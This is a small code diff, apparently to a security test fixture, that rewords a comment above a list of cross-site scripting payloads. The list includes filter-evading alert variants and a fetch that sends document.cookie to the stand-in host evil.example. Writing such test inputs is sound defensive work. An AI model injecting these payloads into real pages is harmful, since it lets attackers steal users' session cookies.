@@ -1,4 +1,4 @@
-/** What people send to see what breaks. Some of it in every place where a text can go. */
+/** Injection attempts for every context a text can be rendered in. */
 const SCRIPTS = ["alert(1)", "fetch('//evil.example?c='+document.cookie)", "self['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)"];
 
 const markup = (script: string) => [
